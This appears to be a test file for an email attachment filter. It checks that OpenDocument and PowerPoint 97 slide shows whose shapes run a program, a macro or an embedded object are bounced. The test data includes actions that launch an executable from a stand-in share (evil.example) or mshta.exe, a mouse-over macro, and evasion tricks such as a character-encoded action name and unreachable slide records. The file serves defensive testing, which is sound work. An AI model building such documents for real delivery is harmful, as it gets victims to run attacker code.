import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { odpWith, PPT_ACTION, ppsWith, presentationListener } from './slide-action-builders.js';
import { useLocalStack } from './stack.js';

// Attacker round 53, A53-5: the "run a program" slide action of A52-12 in the encodings its fix did not read. An
// OpenDocument presentation's interaction (`presentation:action="execute"`, Impress's "Run program"; `verb`, which
// activates an embedded object; a `script:event-listener` that runs a macro), and a PowerPoint 97 show's
// InteractiveInfoAtom whose action runs a program (2), a macro (1) or an OLE verb (5). Jumps and hyperlinks are
// delivered, as they are in an OOXML show.
const stack = useLocalStack();
const kit = attackerKit(stack);
const SHARE_EXE = '\\\\evil.example\\s\\invoice.exe';
const verdictOf = async (name: string, file: Buffer) =>
  (await kit.inbound(attachedFile(name, file)[0])).verdict;

describe('A53-5: an OpenDocument presentation whose shape runs a program', () => {
  const cases: Record<string, Buffer> = {
    'runs a share exe on click': odpWith(
      presentationListener('execute', 'file://evil.example/s/invoice.exe'),
    ),
    'runs a local mshta': odpWith(presentationListener('execute', 'file:///C:/Windows/System32/mshta.exe')),
    'activates an embedded object': odpWith(presentationListener('verb', '')),
    'runs a document macro on mouse-over': odpWith(
      '<script:event-listener script:language="ooo:script" script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/>',
    ),
    'runs a program under other prefixes, its action written with a character reference': odpWith(
      '<p:event-listener s:event-name="dom:click" p:action="exe&#99;ute" l:href="file:///C:/Windows/System32/mshta.exe"/>',
      'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:p="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:l="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"',
    ),
  };
  for (const [how, file] of Object.entries(cases))
    it(`bounces an .odp whose shape ${how}`, async () => {
      expect(await verdictOf('Invoice.odp', file)).toBe('BOUNCE');
    });
  it('(control) delivers an .odp whose shapes go to the next page and open a web page', async () => {
    const listeners =
      presentationListener('next-page', '') + presentationListener('show', 'https://example.com/');
    expect(await verdictOf('Invoice.odp', odpWith(listeners))).toBe('DEFAULT');
  });
});

describe('A53-5: a PowerPoint 97 show whose shape runs a program', () => {
  const cases: Record<string, Buffer> = {
    'runs a share exe on click and on mouse-over': ppsWith({
      action: PPT_ACTION.program,
      target: SHARE_EXE,
      hover: true,
    }),
    'runs a macro on click': ppsWith({ action: PPT_ACTION.macro, target: 'Module1.Run' }),
    'activates an embedded object on click': ppsWith({ action: PPT_ACTION.ole, target: '' }),
    'runs a program from a slide a walk of the record sequence cannot reach': ppsWith({
      action: PPT_ACTION.program,
      target: SHARE_EXE,
      junk: Buffer.from([0x0f, 0x00, 0xe8, 0x03, 0xff, 0xff, 0xff, 0x7f, 0x41]),
    }),
  };
  for (const [how, file] of Object.entries(cases))
    it(`bounces a .pps whose shape ${how}`, async () => {
      expect(await verdictOf('Invoice.pps', file)).toBe('BOUNCE');
    });
  // The round-53 reproducer's layout: action 3 is II_JumpAction (MS-PPT), not "run program".
  for (const [how, action, target] of [
    ['jumps to a slide', PPT_ACTION.jump, SHARE_EXE],
    ['opens a web page', PPT_ACTION.hyperlink, 'https://example.com/'],
  ] as const)
    it(`(control) delivers a .pps whose shape ${how}`, async () => {
      expect(await verdictOf('Invoice.pps', ppsWith({ action, target, hover: true }))).toBe('DEFAULT');
    });
});
